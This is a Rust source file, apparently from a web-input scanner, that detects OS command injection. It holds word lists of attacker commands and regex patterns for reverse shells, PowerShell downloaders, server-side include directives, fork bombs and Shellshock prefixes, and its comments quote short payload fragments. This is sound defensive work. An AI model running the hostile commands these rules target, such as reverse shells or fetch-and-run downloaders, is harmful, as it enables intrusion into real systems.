//! OS command injection for Unix shells, Windows `cmd.exe` and PowerShell.
//!
//! The value is first stripped of the quoting tricks shells ignore (`c'a't`, `c\at`,
//! `w^h^o^a^m^i`, `$@`, `c$u\r\l`, `${IFS}` for a space, `{cat,/etc/passwd}` brace lists).
//! Then:
//!
//! - `cmd.separator`: a command separator (`;`, `|`, `||`, `&`, `&&`, newline) followed by
//!   a known command whose next word looks like a shell argument (an option, a path, a
//!   number, a host, a redirection) or ends the value. "Tom & Jerry" or "salt; cat
//!   lovers" do not match because "Jerry" is no command and "lovers" no argument. Tools
//!   whose names are no words (`netsh`, `ansible-playbook`) and names hidden by quoting
//!   need no such argument. A cmd.exe `FOR` or `IF` statement after a separator counts
//!   too (see [`batch`]).
//! - `cmd.substitution`: `` `cmd` ``, `$(cmd)`, `<(cmd)` or `>(cmd)` around a known
//!   command, or `$((...))` arithmetic on numbers.
//! - `cmd.leading`: a value that is itself a command line: a command that attackers run
//!   (`cat`, `nc`, `bash`, `wget`, ...) with an argument that is an absolute path, option
//!   or URL. "ls 300 lexus" and "nc 8000 controller" have neither. Also a reconnaissance
//!   command alone (`whoami`), a command after `time` or `nohup`, a binary under `/bin/`,
//!   `alias x=...`, `which wget`, a cmd.exe `FOR` or `IF` statement and the `() {`
//!   function prefix of Shellshock.
//! - `cmd.reverse_shell`: `/dev/tcp/`, `bash -i`, `nc -e`, `mkfifo` and their like.
//! - `cmd.glob_path`: `/???/c?t`-style wildcard paths to binaries.
//! - `cmd.powershell`: PowerShell cmdlets and downloaders (`Invoke-Expression`, `IEX`,
//!   `New-Object Net.WebClient`, `-EncodedCommand`).
//! - `cmd.ssi`: server-side include directives (`<!--#exec cmd="..."-->`,
//!   `<!--#include virtual="..."-->`), which web servers with SSI enabled execute.

mod batch;
mod gate;

use std::sync::LazyLock;

use regex::bytes::Regex;

use crate::rules::ascii_regex;

use crate::finding::Confidence;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CommandMatch {
    pub rule_id: &'static str,
    pub confidence: Confidence,
    pub at: usize,
}

/// Commands that attackers run after a separator: reconnaissance, file reading,
/// downloaders, interpreters, network tools, and their Windows counterparts.
const COMMANDS: &[&str] = &[
    // Unix reconnaissance and file reading.
    "id",
    "whoami",
    "uname",
    "hostname",
    "pwd",
    "ls",
    "dir",
    "cat",
    "tac",
    "more",
    "less",
    "head",
    "tail",
    "nl",
    "od",
    "xxd",
    "hexdump",
    "strings",
    "grep",
    "egrep",
    "fgrep",
    "find",
    "locate",
    "which",
    "whereis",
    "file",
    "stat",
    "env",
    "printenv",
    "set",
    "export",
    "ps",
    "top",
    "netstat",
    "ss",
    "ifconfig",
    "ip",
    "route",
    "arp",
    "last",
    "w",
    "who",
    "users",
    "groups",
    "lsof",
    "df",
    "du",
    "mount",
    "uptime",
    "date",
    "history",
    "echo",
    "printf",
    "sort",
    "uniq",
    "cut",
    "awk",
    "gawk",
    "sed",
    "tr",
    "wc",
    "diff",
    "tee",
    "xargs",
    "base64",
    "base32",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "openssl",
    "getent",
    "lsb_release",
    "dmesg",
    "sysctl",
    "crontab",
    "sudo",
    "su",
    "doas",
    "chmod",
    "chown",
    "chgrp",
    "rm",
    "rmdir",
    "mv",
    "cp",
    "ln",
    "mkdir",
    "touch",
    "dd",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "gunzip",
    "bzip2",
    "kill",
    "killall",
    "pkill",
    "nohup",
    "timeout",
    "sleep",
    "usleep",
    "time",
    "exec",
    "eval",
    "source",
    "shutdown",
    "reboot",
    "halt",
    "poweroff",
    "systemctl",
    "service",
    "useradd",
    "userdel",
    "usermod",
    "passwd",
    "chpasswd",
    "mkfifo",
    "mknod",
    "ldd",
    "strace",
    "gdb",
    "vi",
    "vim",
    "nano",
    "ed",
    "more",
    "pg",
    "rev",
    "fold",
    "fmt",
    "expand",
    "split",
    "csplit",
    "paste",
    "join",
    "comm",
    "look",
    // Shells and interpreters.
    "sh",
    "bash",
    "dash",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "fish",
    "ash",
    "busybox",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "nodejs",
    "lua",
    "tclsh",
    "wish",
    "java",
    "jrunscript",
    "irb",
    "expect",
    // Network and download tools.
    "wget",
    "curl",
    "fetch",
    "lwp-download",
    "lwp-request",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "ssh",
    "scp",
    "sftp",
    "ftp",
    "tftp",
    "rsync",
    "ping",
    "ping6",
    "traceroute",
    "tracert",
    "nslookup",
    "dig",
    "host",
    "whois",
    "nmap",
    "xterm",
    "openvpn",
    "smbclient",
    "rpcclient",
    "ldapsearch",
    "mysql",
    "psql",
    "sqlite3",
    "mongo",
    "redis-cli",
    "lastlog",
    "lastb",
    "faillog",
    "getfacl",
    "lsattr",
    "chattr",
    "sestatus",
    "iptables",
    "dpkg",
    "rpm",
    "apt",
    "apt-get",
    "yum",
    "pip",
    "npm",
    "gcc",
    "cc",
    "make",
    "git",
    "docker",
    "kubectl",
    "mysqldump",
    "pg_dump",
    "sqlcmd",
    "tcpdump",
    "tshark",
    "nice",
    "flock",
    "cpulimit",
    "cscli",
    "cd",
    "chdir",
    "pushd",
    "column",
    "bridge",
    "rmt",
    "lastlogin",
    "c89",
    "c99",
    "pip3",
    "pipx",
    "perf",
    "strace",
    "ltrace",
    "visudo",
    "ssh-copy-id",
    "bsdtar",
    "sysinfo",
    "getuid",
    "lastlog",
    "htop",
    "aptitude",
    "bcdboot",
    // Windows cmd.exe and tools.
    "cmd",
    "command",
    "powershell",
    "pwsh",
    "type",
    "copy",
    "del",
    "erase",
    "ren",
    "move",
    "ver",
    "vol",
    "systeminfo",
    "tasklist",
    "taskkill",
    "net",
    "net1",
    "netsh",
    "ipconfig",
    "reg",
    "regedit",
    "sc",
    "wmic",
    "whoami",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "cscript",
    "wscript",
    "msiexec",
    "schtasks",
    "at",
    "findstr",
    "attrib",
    "icacls",
    "cacls",
    "nbtstat",
    "qwinsta",
    "quser",
    "query",
    "runas",
    "start",
    "call",
    "forfiles",
    "pathping",
    "arp",
    "route",
    "explorer",
    "notepad",
    "calc",
    "shutdown",
    "cipher",
    "vssadmin",
    "bcdedit",
    "wevtutil",
    "dsquery",
    "nltest",
    "klist",
    "curl.exe",
    "where",
    "tree",
    // PowerShell aliases of downloaders and process starters.
    "iwr",
    "irm",
    "iwmi",
    "gwmi",
    "icm",
    "saps",
];

/// Commands whose names are no words of prose: after a separator any argument makes them
/// a command line, and as the whole value they need no argument.
const ADMIN_TOOLS: &[&str] = &[
    "whoami",
    "ifconfig",
    "ipconfig",
    "systeminfo",
    "netstat",
    "uname",
    "sysinfo",
    "tasklist",
    "visudo",
    "getuid",
    "lsb_release",
    "printenv",
    "netsh",
    "nslookup",
    "certutil",
    "bitsadmin",
    "crontab",
    "mkfifo",
    "cscli",
    "getent",
    "sysctl",
    "iptables",
    "wmic",
    "mshta",
    "rundll32",
    "regsvr32",
    "cscript",
    "wscript",
    "msiexec",
    "schtasks",
    "vssadmin",
    "bcdedit",
    "wevtutil",
    "nltest",
    "dsquery",
    "qwinsta",
    "icacls",
    "nbtstat",
    "ssh-copy-id",
    "useradd",
    "usermod",
    "userdel",
    "chpasswd",
    "smbclient",
    "rpcclient",
    "ldapsearch",
];

/// Commands that probe a host when they are the whole value, without arguments. Names
/// that APIs also use for parameters or path segments (`whoami`, `uname`, `sysinfo`) are
/// left out.
const BARE_PROBES: &[&str] = &["ifconfig", "ipconfig", "systeminfo", "tasklist"];

/// Commands that read like a command line, not prose, after a wrapper such as `time` or
/// `nohup` even without arguments.
const WRAPPED_BARE: &[&str] = &["who", "id", "pwd", "ps", "sh", "bash", "ls", "env"];

/// Commands that run other programs or read files, checked when the value starts with
/// one (the value is the whole command line).
const LEADING_COMMANDS: &[&str] = &[
    "cat",
    "tac",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "dash",
    "wget",
    "curl",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "chmod",
    "rm",
    "telnet",
    "busybox",
    "cmd",
    "powershell",
    "pwsh",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "wmic",
    "type",
    "whoami",
    "uname",
    "id",
    "ping",
    "nslookup",
    "sleep",
    "echo",
    "ls",
    "dir",
    "net",
    "ipconfig",
    "systeminfo",
    "head",
    "tail",
    "find",
    "xterm",
    "eval",
    "exec",
    "base64",
    "awk",
    "sed",
    "grep",
    "ifconfig",
    "netstat",
    "ps",
    "env",
    "sudo",
    "su",
    "crontab",
    "mkfifo",
    "tftp",
    "ftp",
    "ssh",
    "scp",
    "nmap",
    "dig",
    "host",
    "nohup",
    "timeout",
    "tasklist",
    "perf",
    "c89",
    "c99",
    "ll",
    "flock",
    "cpulimit",
];

/// Commands that mean something on their own, without arguments, after a separator.
const BARE_COMMANDS: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "hostname",
    "pwd",
    "ls",
    "dir",
    "ps",
    "ifconfig",
    "ipconfig",
    "netstat",
    "env",
    "printenv",
    "set",
    "systeminfo",
    "tasklist",
    "ver",
    "w",
    "who",
    "uptime",
    "reboot",
    "shutdown",
    "halt",
    "sh",
    "bash",
    "cmd",
    "powershell",
    "pwsh",
    "last",
    "history",
    "groups",
    "users",
    "date",
    "getuid",
    "sysinfo",
    "vol",
    "net",
    "echo",
    "sleep",
    "top",
    "df",
    "mount",
    "arp",
    "route",
    "calc",
    "notepad",
    "exit",
    "logout",
    "lastlog",
    "htop",
    "aptitude",
];

/// Words at the start of a value that make it worth checking as a command line although
/// they are no command in [`LEADING_COMMANDS`]: cmd.exe statements, wrappers that run the
/// next word, and shell builtins that define or list commands.
const LEADING_KEYWORDS: &[&str] = &["for", "if", "time", "nohup", "strace", "ltrace", "nice", "alias", "set", "which"];

/// Directories of system binaries; a value that starts with a command in one of them is a
/// command line.
const BIN_DIRECTORIES: &[&[u8]] = &[b"/bin/", b"/usr/bin/", b"/sbin/", b"/usr/sbin/", b"/usr/local/bin/"];

/// Programs that `which` looks for when an attacker probes for tools: downloaders,
/// compilers and interpreters.
const PROBED_TOOLS: &[&str] =
    &["curl", "wget", "gcc", "cc", "nc", "ncat", "netcat", "socat", "perl", "python", "python3", "php", "ruby", "nmap"];

pub struct CommandRules {
    commands: WordSet,
    leading: WordSet,
    bare: WordSet,
    admin_tools: WordSet,
    reverse_shell: Regex,
    glob_path: Regex,
    powershell: Regex,
    server_side_include: Regex,
}

impl CommandRules {
    pub fn new() -> Self {
        let reverse_shell = ascii_regex(
            r"(?i)/dev/(?:tcp|udp)/|\b(?:ba)?sh\s+-i\b|\bnc(?:at)?\s+(?:-[a-z]*\s+)*-[a-z]*[ec]\b|\bmkfifo\s|\b0<&\d+|\bexec\s+\d+<>|\bsocat\s+(?:exec|tcp)|\bpty\.spawn\(|\bsubprocess\.(?:call|popen|run|check_output)\(|\bos\.(?:system|popen)\(|\bRuntime\.getRuntime\(\)\.exec",
        )
        .expect("the reverse shell pattern is valid");
        let glob_path = ascii_regex(r"/(?:[a-z?*\[\]]{1,6}/){1,2}[a-z?*\[\]]{0,9}[?*\[][a-z?*\[\]]*(?:\s|$)")
            .expect("the glob path pattern is valid");
        let powershell = ascii_regex(
            r"(?i)\b(?:invoke-(?:expression|webrequest|restmethod|command|item|wmimethod|shellcode|mimikatz)|new-object\s+(?:-typename\s+)?(?:system\.)?net\.(?:webclient|sockets)|start-process|start-bitstransfer|(?:get|set|add|remove)-(?:content|childitem|itemproperty|wmiobject|ciminstance|localuser|mppreference|process|service|acl)|downloadstring\(|downloadfile\(|frombase64string\(|set-executionpolicy|iex\s*[(\s$])|(?:^|\s)-(?:encodedcommand|enc|ec|e)\s+[a-z0-9+/=]{16,}|(?:^|\s)-executionpolicy\s+bypass",
        )
        .expect("the PowerShell pattern is valid");
        let server_side_include =
            ascii_regex(r"(?i)<!--\s*#\s*(?:exec|include|echo|config|printenv|fsize|flastmod|set|if)\b")
                .expect("the server-side include pattern is valid");
        Self {
            server_side_include,
            commands: WordSet::new(COMMANDS),
            leading: WordSet::new(LEADING_COMMANDS),
            bare: WordSet::new(BARE_COMMANDS),
            admin_tools: WordSet::new(ADMIN_TOOLS),
            reverse_shell,
            glob_path,
            powershell,
        }
    }

    pub fn detect(&self, text: &str) -> Option<CommandMatch> {
        let shell = deobfuscate(text);
        let bytes = shell.text.as_bytes();
        let original_at = |at: usize| shell.original_offset(at);

        // Each pattern runs only when its gate finds a piece that every match contains.
        if gate::may_be_server_side_include(text.as_bytes())
            && let Some(found) = self.server_side_include.find(text.as_bytes())
        {
            return Some(CommandMatch { rule_id: "cmd.ssi", confidence: Confidence::High, at: found.start() });
        }
        if gate::may_be_reverse_shell(bytes)
            && let Some(found) = self.reverse_shell.find(bytes)
        {
            return Some(CommandMatch {
                rule_id: "cmd.reverse_shell",
                confidence: Confidence::High,
                at: original_at(found.start()),
            });
        }

        let mut i = 0;
        while i < bytes.len() {
            // Skip to the next byte that can start a separator.
            while i < bytes.len() && !SEPARATOR_START[bytes[i] as usize] {
                i += 1;
            }
            let Some(&b) = bytes.get(i) else { break };
            let (kind, after) = match b {
                b'`' => (Separator::Substitution, i + 1),
                b'$' if bytes.get(i + 1) == Some(&b'(') => {
                    if bytes.get(i + 2) == Some(&b'(') && is_arithmetic(&bytes[i + 3..]) {
                        return Some(CommandMatch {
                            rule_id: "cmd.substitution",
                            confidence: Confidence::Medium,
                            at: original_at(i),
                        });
                    }
                    (Separator::Substitution, i + 2)
                }
                // Process substitution: `<(cmd)`, `>(cmd)`.
                b'<' | b'>' if bytes.get(i + 1) == Some(&b'(') => (Separator::Substitution, i + 2),
                b';' | b'\n' | b'\r' => (Separator::Sequence, i + 1),
                b'|' => (Separator::Sequence, if bytes.get(i + 1) == Some(&b'|') { i + 2 } else { i + 1 }),
                b'&' => {
                    if bytes.get(i + 1) == Some(&b'&') {
                        (Separator::Sequence, i + 2)
                    } else {
                        (Separator::Background, i + 1)
                    }
                }
                b'{' if i == 0 || matches!(bytes[i - 1], b' ' | b';' | b'|' | b'&') => (Separator::Group, i + 1),
                _ => {
                    i += 1;
                    continue;
                }
            };
            if let Some(found) = self.command_at(&shell, after, kind) {
                return Some(CommandMatch { rule_id: found.0, confidence: found.1, at: original_at(i) });
            }
            i = after;
        }

        if let Some(at) = fork_bomb(bytes) {
            return Some(CommandMatch { rule_id: "cmd.leading", confidence: Confidence::High, at: original_at(at) });
        }

        if gate::may_be_glob_path(bytes)
            && let Some(found) = self.glob_path.find(bytes)
        {
            return Some(CommandMatch {
                rule_id: "cmd.glob_path",
                confidence: Confidence::High,
                at: original_at(found.start()),
            });
        }
        // cmd.exe statements keep their quotes and `%` variables, so they are parsed from
        // the input, not from the deobfuscated text.
        if let Some(at) = batch::find_statement(text.as_bytes(), |word| self.is_command(word)) {
            let leading = text.as_bytes()[..at].iter().all(|b| matches!(b, b' ' | b'\t' | b'@'));
            let rule_id = if leading { "cmd.leading" } else { "cmd.separator" };
            return Some(CommandMatch { rule_id, confidence: Confidence::Medium, at });
        }
        if gate::may_be_powershell(text.as_bytes())
            && let Some(found) = self.powershell.find(text.as_bytes())
        {
            return Some(CommandMatch { rule_id: "cmd.powershell", confidence: Confidence::High, at: found.start() });
        }
        if let Some(found) = self.leading_command(&shell) {
            return Some(CommandMatch { rule_id: "cmd.leading", confidence: found, at: 0 });
        }
        None
    }

    /// True for a lower-case command name of any list: commands after separators, tools
    /// whose names are no words, and configuration management tools.
    fn is_command(&self, name: &str) -> bool {
        self.commands.contains(name) || self.is_admin_tool(name)
    }

    fn is_admin_tool(&self, name: &str) -> bool {
        self.admin_tools.contains(name) || is_configuration_tool(name)
    }

    /// Checks for a command at `shell.text[start..]` after a separator of kind `kind`.
    fn command_at(
        &self,
        shell: &Deobfuscated<'_>,
        start: usize,
        kind: Separator,
    ) -> Option<(&'static str, Confidence)> {
        let bytes = shell.text.as_bytes();
        if kind != Separator::Substitution && (variable_command(bytes, start, true) || is_sqlite_shell(bytes, start)) {
            return Some(("cmd.separator", Confidence::Medium));
        }
        let word = command_word(bytes, start)?;
        let name = word.name;
        let admin = self.is_admin_tool(name);
        if !admin && !self.commands.contains(name) {
            return None;
        }
        if kind == Separator::Substitution {
            return Some(("cmd.substitution", Confidence::High));
        }
        let hidden = shell.hides(&word);
        let confidence = if kind == Separator::Background { Confidence::Medium } else { Confidence::High };

        let argument_start = skip_spaces(bytes, word.end);
        let argument = &bytes[argument_start..];
        let ends = argument.is_empty()
            || matches!(argument[0], b';' | b'|' | b'&' | b'`' | b')' | b'}' | b'\n' | b'\r' | b'#' | b'\'' | b'"');
        if ends {
            // A bare command is an attack only for commands that do something alone, and
            // after `&` (a common character in text) only when the value ends there.
            if self.bare.contains(name) || admin || hidden {
                return Some(("cmd.separator", confidence));
            }
            return None;
        }
        if admin || hidden || is_admin_subcommand(name, argument) {
            return Some(("cmd.separator", confidence));
        }
        // In text, `&` and line breaks are often followed by a word and a number
        // ("Search & find 2 items"), so numbers count only for commands that take one.
        let numbers_allowed = !matches!(kind, Separator::Background) && bytes[..start].last() != Some(&b'\n')
            || matches!(name, "sleep" | "usleep" | "ping" | "timeout");
        if looks_like_argument(argument, numbers_allowed) {
            return Some(("cmd.separator", Confidence::High));
        }
        None
    }

    /// True when the first word of `text` is a command or keyword that [`Self::detect`]
    /// checks as a whole command line; a cheap test for the prefilter.
    pub fn starts_with_leading_command(&self, text: &str) -> bool {
        let text = text.trim_start();
        if text.starts_with("<(") || text.starts_with(">(") {
            return true;
        }
        let text = text.strip_prefix('@').unwrap_or(text);
        // Only the first 65 bytes are searched for the end of the word, so a long value
        // costs no more than a short one.
        let bytes = &text.as_bytes()[..text.len().min(65)];
        let end = bytes.iter().position(|&b| b == b' ' || b == b'\t').unwrap_or(text.len());
        if end > 64 {
            return false;
        }
        let word = &text[..end];
        let base = &word[word.bytes().rposition(|b| b == b'/' || b == b'\\').map_or(0, |p| p + 1)..];

        // The name lower-cased and without the quotes and `^` that shells drop.
        let mut buffer = [0u8; 24];
        let mut len = 0;
        let mut quoted = false;
        for &b in base.as_bytes() {
            if matches!(b, b'\'' | b'"' | b'^') {
                quoted = true;
                continue;
            }
            let Some(slot) = buffer.get_mut(len) else { return false };
            *slot = b.to_ascii_lowercase();
            len += 1;
        }
        let name = &buffer[..len];
        let name = name.strip_suffix(b".exe").unwrap_or(name);
        let Ok(name) = std::str::from_utf8(name) else { return false };
        !name.is_empty()
            && (self.leading.contains(name)
                || self.is_admin_tool(name)
                || LEADING_KEYWORDS.contains(&name)
                || (quoted && self.commands.contains(name)))
    }

    /// Checks whether the whole value is a command line.
    fn leading_command(&self, shell: &Deobfuscated<'_>) -> Option<Confidence> {
        // Form fields often end with a line break that belongs to no argument.
        let bytes = shell.text.as_bytes().trim_ascii_end();
        let start = skip_spaces(bytes, 0);
        if is_function_definition(&bytes[start..]) {
            return Some(Confidence::High);
        }
        if variable_command(bytes, start, false) {
            return Some(Confidence::Medium);
        }
        let word = command_word(bytes, start)?;
        let name = word.name;
        let hidden = shell.hides(&word);

        // A path into a directory of system binaries names a program to run.
        let path = &bytes[word.start..word.end];
        if BIN_DIRECTORIES.iter().any(|directory| path.starts_with(directory)) && self.is_command(name) {
            return Some(Confidence::Medium);
        }

        let argument_start = skip_spaces(bytes, word.end);
        let argument = &bytes[argument_start..];
        if argument.is_empty() {
            let alone = BARE_PROBES.contains(&name)
                || (word.wrapped && (WRAPPED_BARE.contains(&name) || self.is_admin_tool(name)))
                || (hidden && self.is_command(name));
            return alone.then_some(Confidence::Medium);
        }
        // `whoami;...`: a command that works alone, ended by a separator.
        if matches!(argument[0], b';' | b'|' | b'&' | b'`') {
            let alone = self.bare.contains(name) || self.is_admin_tool(name);
            return alone.then_some(Confidence::Medium);
        }
        if argument_start == word.end {
            return None;
        }

        let found = (self.leading.contains(name) && is_strong_argument(argument))
            || self.is_admin_tool(name)
            || ((word.wrapped || hidden) && self.is_command(name) && (hidden || is_strong_argument(argument)))
            || match name {
                "which" => PROBED_TOOLS.contains(&std::str::from_utf8(argument).unwrap_or("")),
                "sleep" => argument.len() <= 4 && argument.iter().all(u8::is_ascii_digit),
                "alias" => is_alias_definition(argument),
                "set" => [&b"-o "[..], b"+o ", b"/a ", b"/p "].iter().any(|option| argument.starts_with(option)),
                _ => is_admin_subcommand(name, argument),
            };
        found.then_some(Confidence::Medium)
    }
}

impl Default for CommandRules {
    fn default() -> Self {
        Self::new()
    }
}

/// A sorted word list searched by binary search; cheaper than hashing for these short
/// words.
struct WordSet {
    /// The words, sorted, without duplicates.
    words: Vec<&'static str>,
    /// `words[bucket[b] as usize..bucket[b + 1] as usize]` are the words that start with
    /// byte `b`, so a lookup compares a word with a few words of its own first byte.
    bucket: [u16; 257],
}

impl WordSet {
    fn new(words: &[&'static str]) -> Self {
        let mut words = words.to_vec();
        words.sort_unstable();
        words.dedup();
        let mut bucket = [0u16; 257];
        for b in 0..=255u8 {
            let start = words.partition_point(|word| word.as_bytes().first().is_none_or(|&first| first < b));
            bucket[b as usize] = u16::try_from(start).expect("a word set has fewer than 65536 words");
        }
        bucket[256] = u16::try_from(words.len()).expect("a word set has fewer than 65536 words");
        Self { words, bucket }
    }

    fn contains(&self, word: &str) -> bool {
        let Some(&first) = word.as_bytes().first() else {
            return self.words.first() == Some(&"");
        };
        let range = self.bucket[first as usize] as usize..self.bucket[first as usize + 1] as usize;
        self.words[range].binary_search(&word).is_ok()
    }
}

/// Bytes that start a separator in [`CommandRules::detect`].
static SEPARATOR_START: [bool; 256] = byte_table(b"`$;\n\r|&{<>");

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Separator {
    /// `;`, `|`, `||`, `&&`, newline.
    Sequence,
    /// A single `&`.
    Background,
    /// `` ` ``, `$(`, `<(` or `>(`.
    Substitution,
    /// `{` opening a command group or brace expansion.
    Group,
}

fn skip_spaces(bytes: &[u8], mut i: usize) -> usize {
    while i < bytes.len() && matches!(bytes[i], b' ' | b'\t') {
        i += 1;
    }
    i
}

/// Ansible and Chef command-line tools (`ansible`, `ansible-playbook`, `chef-client`).
fn is_configuration_tool(name: &str) -> bool {
    name == "ansible" || name.starts_with("ansible-") || (name.starts_with("chef-") && name.len() > 5)
}

/// The command name that a shell runs, as read by [`command_word`].
struct CommandWord<'a> {
    /// Lower-case name without directory and `.exe` or `.com` suffix.
    name: &'a str,
    /// Start of the word with its directory.
    start: usize,
    end: usize,
    /// The word follows a wrapper such as `time`, `nohup` or `sudo`.
    wrapped: bool,
    /// The word follows an unset variable (`$u wget`), which expands to nothing.
    after_variable: bool,
}

/// Reads the command name at `bytes[start..]`, without a directory (`/usr/bin/id`,
/// `C:\Windows\System32\cmd.exe`), a `.exe` suffix or a wrapper such as `sudo`.
fn command_word(bytes: &[u8], start: usize) -> Option<CommandWord<'_>> {
    let mut i = skip_spaces(bytes, start);
    // A subshell or group, `(sh)` or `{ id; }`, and `+` for a space in form-encoded
    // payloads (`|+dir`).
    while i < bytes.len() && matches!(bytes[i], b'(' | b'{' | b'+') {
        i = skip_spaces(bytes, i + 1);
    }
    // An unset variable before the command expands to nothing: `$u wget`.
    let mut after_variable = false;
    if let Some(end) = variable_end(bytes, i)
        && bytes.get(end) == Some(&b' ')
    {
        let next = skip_spaces(bytes, end);
        if bytes.get(next).is_some_and(u8::is_ascii_alphabetic) {
            i = next;
            after_variable = true;
        }
    }
    let word_start = i;
    // A word longer than 64 bytes is no command, so the scan stops after 65.
    while i < bytes.len()
        && i - word_start <= 64
        && (bytes[i].is_ascii_alphanumeric() || matches!(bytes[i], b'/' | b'\\' | b'.' | b'_' | b'-' | b':'))
    {
        i += 1;
    }
    if i == word_start || i - word_start > 64 {
        return None;
    }
    let word = std::str::from_utf8(&bytes[word_start..i]).ok()?;
    let base = &word[word.bytes().rposition(|b| b == b'/' || b == b'\\').map_or(0, |p| p + 1)..];
    let base = base.strip_suffix(".exe").or_else(|| base.strip_suffix(".com")).unwrap_or(base);
    if base.is_empty() {
        return None;
    }
    // A path that is not a binary path (`a/b`) is not a command.
    if word.contains('/') && !word.starts_with('/') {
        return None;
    }
    let found = CommandWord { name: base, start: word_start, end: i, wrapped: false, after_variable };
    // Wrappers that run the next word as the command.
    if matches!(
        base,
        "sudo" | "nohup" | "time" | "nice" | "exec" | "doas" | "command" | "builtin" | "strace" | "ltrace"
    ) {
        let next = skip_spaces(bytes, i);
        if next < bytes.len()
            && bytes[next] != b'-'
            && let Some(inner) = command_word(bytes, next)
        {
            return Some(CommandWord {
                wrapped: true,
                after_variable: after_variable || inner.after_variable,
                ..inner
            });
        }
    }
    Some(found)
}

/// Returns the end of a variable reference, `$name` or `${name}`, at `bytes[i..]`.
fn variable_end(bytes: &[u8], i: usize) -> Option<usize> {
    if bytes.get(i) != Some(&b'$') {
        return None;
    }
    let braced = bytes.get(i + 1) == Some(&b'{');
    let name_start = if braced { i + 2 } else { i + 1 };
    if !bytes.get(name_start).is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_') {
        return None;
    }
    let mut end = name_start;
    while end < bytes.len() && (bytes[end].is_ascii_alphanumeric() || bytes[end] == b'_') && end - name_start < 32 {
        end += 1;
    }
    if braced {
        if bytes.get(end) != Some(&b'}') {
            return None;
        }
        end += 1;
    }
    Some(end)
}

/// True for a variable in command position followed by an option (`$a -nlvp 4444`,
/// `${SHELL} -c id`) or, when `variable_argument`, by variables joined into one word
/// (`$c $a$b`): the shell runs the command that the variable holds.
fn variable_command(bytes: &[u8], start: usize, variable_argument: bool) -> bool {
    let i = skip_spaces(bytes, start);
    let Some(end) = variable_end(bytes, i) else { return false };
    if bytes.get(end) != Some(&b' ') {
        return false;
    }
    let next = skip_spaces(bytes, end);
    if bytes.get(next) == Some(&b'-') {
        return bytes.get(next + 1).is_some_and(u8::is_ascii_alphabetic);
    }
    // `$a $b $c` could be a template; `$a$b` builds a path or command from pieces.
    variable_argument && variable_end(bytes, next).is_some_and(|end| matches!(bytes.get(end), Some(b'$' | b'/')))
}

/// True for a dot command of the `sqlite3` shell that runs programs or lists databases:
/// `.shell id`, `.system nc ...`, `."shell whoami`, `.databases`.
fn is_sqlite_shell(bytes: &[u8], start: usize) -> bool {
    let mut i = skip_spaces(bytes, start);
    if bytes.get(i) != Some(&b'.') {
        return false;
    }
    i += 1;
    while matches!(bytes.get(i), Some(b' ' | b'"' | b'\'' | b'\\')) {
        i += 1;
    }
    let end = bytes[i..].iter().position(|b| !b.is_ascii_alphabetic()).map_or(bytes.len(), |p| i + p);
    match &bytes[i..end] {
        b"shell" | b"system" | b"sh" => bytes.get(end) == Some(&b' '),
        b"databases" => bytes[end..].trim_ascii().is_empty(),
        _ => false,
    }
}

/// Finds a fork bomb, a function that pipes or backgrounds calls of itself:
/// `:(){ :|:& };:`, `f(){ f & f; }`. Returns the offset of the function name.
fn fork_bomb(bytes: &[u8]) -> Option<usize> {
    // The body needs a `{`, which most values lack.
    memchr::memchr(b'{', bytes)?;
    // Building a searcher costs more than most searches, so one is built for all values.
    static PARENTHESES: LazyLock<memchr::memmem::Finder<'static>> = LazyLock::new(|| memchr::memmem::Finder::new("()"));
    for open in PARENTHESES.find_iter(bytes) {
        let name_start = bytes[..open]
            .iter()
            .rposition(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'_' | b':' | b'.')))
            .map_or(0, |p| p + 1);
        let name = &bytes[name_start..open];
        let after = skip_spaces(bytes, open + 2);
        if name.is_empty() || name.len() > 32 || bytes.get(after) != Some(&b'{') {
            continue;
        }
        let Some(close) = bytes[after..].iter().position(|&b| b == b'}') else { continue };

        // The body without spaces and call parentheses: `f|f&`, `f&f;`.
        let body: Vec<u8> = bytes[after + 1..after + close].iter().copied().filter(|&b| b != b' ').collect();
        let body = String::from_utf8_lossy(&body).replace("()", "");
        let Ok(name) = std::str::from_utf8(name) else { continue };
        if body.contains(&format!("{name}|{name}")) || body.contains(&format!("{name}&{name}")) {
            return Some(name_start);
        }
    }
    None
}

/// True when `text` starts a shell function definition, `() {`, the prefix of the
/// Shellshock (CVE-2014-6271) payloads.
fn is_function_definition(text: &[u8]) -> bool {
    let Some(rest) = text.strip_prefix(b"(") else { return false };
    let rest = &rest[skip_spaces(rest, 0)..];
    let Some(rest) = rest.strip_prefix(b")") else { return false };
    rest[skip_spaces(rest, 0)..].starts_with(b"{")
}

/// True when `text`, the bytes after `$((`, is an arithmetic expansion of numbers:
/// `$((6*7))`.
fn is_arithmetic(text: &[u8]) -> bool {
    let Some(end) = text.windows(2).take(64).position(|pair| pair == b"))") else { return false };
    let expression = &text[..end];
    expression.iter().any(u8::is_ascii_digit)
        && expression
            .iter()
            .all(|b| b.is_ascii_digit() || matches!(b, b' ' | b'+' | b'-' | b'*' | b'/' | b'%' | b'(' | b')'))
}

/// True for an `alias` definition after the word `alias`: options, then `name=`.
fn is_alias_definition(argument: &[u8]) -> bool {
    let mut i = 0;
    while matches!(argument.get(i), Some(b'-' | b'+')) {
        let end = argument[i..].iter().position(|&b| b == b' ').map_or(argument.len(), |p| i + p);
        i = skip_spaces(argument, end);
    }
    let name_end = argument[i..]
        .iter()
        .position(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.')))
        .map_or(argument.len(), |p| i + p);
    name_end > i && argument.get(name_end) == Some(&b'=')
}

/// True for Windows `net` and `reg` subcommands that list or change accounts, shares and
/// the registry: `net localgroup`, `net user x /add`, `reg add HKLM\...`.
